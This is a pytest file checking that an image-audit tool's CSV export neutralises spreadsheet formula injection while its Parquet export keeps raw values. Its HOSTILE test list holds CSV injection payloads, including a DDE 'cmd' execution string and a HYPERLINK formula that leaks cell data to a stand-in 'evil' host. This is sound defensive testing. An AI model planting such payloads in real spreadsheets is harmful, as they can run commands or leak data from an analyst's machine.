"""Hostile catalog text in the exports: no CSV cell runs as a formula, the Parquet file keeps the raw values.

Catalog file names, sources, image ids and the metadata Copyleaks echoes (``issuedBy``...) come from
whoever uploaded the images; an analyst opens ``results.csv`` in a spreadsheet.
"""

from __future__ import annotations

import csv
import io

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from image_audit.reporting import exports
from image_audit.reporting.exports import EXPORT_COLUMNS, EXPORT_SCHEMA, redact_url
from tests.test_report import _export_chunk

TEXT_COLUMNS = [field.name for field in EXPORT_SCHEMA if pa.types.is_string(field.type)]
#: What OWASP's "CSV Injection" page lists, and text the CSV must quote.
HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil/"&A1,"x")',
    "=1,2",
    "-5",
    'plain "quoted", text',
    "two\nlines",
    "x\r=1+1",
    "x\r\n=1+1",
    "'=already",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def _hostile_rows() -> list[dict]:
    """One row per hostile value, in every text column at once, between ordinary rows."""
    rows = [{"scan_id": "ok-first", "issued_by": "C2PA signer", "last_error": "image too small"}]
    rows += [
        {name: value for name in TEXT_COLUMNS} | {"attempt": -1, "ai": -0.5, "human": 1.5}
        for value in HOSTILE
    ]
    rows.append({"scan_id": "ok-last", "source": "shop", "file_name": "a,b.png"})
    return rows


def _raw(column: str, value: str | None) -> str | None:
    return redact_url(value) if column == "url" else value


@pytest.fixture
def exported(tmp_path):
    """The hostile rows exported in two chunks; the CSV's text and the Parquet table."""
    rows = _hostile_rows()
    csv_file, parquet_file = tmp_path / "results.csv", tmp_path / "results.parquet"
    chunks = [_export_chunk(rows[:5]), _export_chunk(rows[5:])]
    assert exports.write_exports(chunks, csv_file, parquet_file) == len(rows)
    return rows, csv_file.read_bytes().decode("utf-8"), pq.read_table(parquet_file)


def test_no_csv_cell_starts_as_a_formula(exported):
    rows, text, _ = exported
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == EXPORT_COLUMNS and len(read) == len(rows) + 1  # no carriage return split a row
    for row, cells in zip(rows, read[1:], strict=True):
        by_name = dict(zip(EXPORT_COLUMNS, cells, strict=True))
        for name in TEXT_COLUMNS:
            raw = _raw(name, row.get(name, by_name[name]))
            cell = by_name[name]
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
            assert cell == ("'" + raw if raw.startswith(FORMULA_STARTS) else raw), (name, cell)
        # numbers are not text: a negative one stays a number
        assert (by_name["attempt"], by_name["ai"]) == (
            ("-1", "-0.5") if row["scan_id"] in HOSTILE else ("1", "0.0")
        )


def test_neutralised_cells_are_quoted_with_their_quotes_doubled(exported):
    _, text, _ = exported
    line = next(line for line in text.split("\n") if line.startswith("\"'=HYPERLINK"))
    assert line.startswith('"\'=HYPERLINK(""http://evil/""&A1,""x"")",')
    assert '"\'\r=1",' in text and '"\'-5",' in text and '"\'@SUM(A1)",' in text
    assert '"x\r=1+1",' in text and '"x\r\n=1+1",' in text  # a carriage return inside a cell is quoted
    assert "'=already," in text  # a cell that is no formula is left as it is
    lines = text.split("\n")
    assert lines[1].startswith("img,ok-first,1,1,completed,human,0.0,1.0,") and '"a,b.png"' in lines[-2]


def test_parquet_keeps_the_raw_values(exported):
    rows, _, table = exported
    assert table.column_names == EXPORT_COLUMNS
    defaults = _export_chunk([{}])
    for name in TEXT_COLUMNS:
        expected = [_raw(name, row.get(name, defaults[name][0])) for row in rows]
        assert table[name].to_pylist() == expected, name
    assert table["attempt"].to_pylist()[1:-1] == [-1] * len(HOSTILE) and table["ai"][1].as_py() == -0.5


def test_ordinary_rows_read_as_before(tmp_path, exported):
    """A chunk with formulas is joined by Arrow compute, not written by Arrow's CSV writer; its ordinary
    rows read as that writer writes them."""
    rows, text, _ = exported
    alone = tmp_path / "alone.csv"
    chunks = [_export_chunk([rows[0]]), _export_chunk([rows[-1]])]
    assert exports.write_exports(chunks, alone, tmp_path / "alone.parquet") == 2
    header, first, last = alone.read_text().splitlines()
    assert text.startswith(f"{header}\n{first}\n") and text.endswith(f"\n{last}\n")
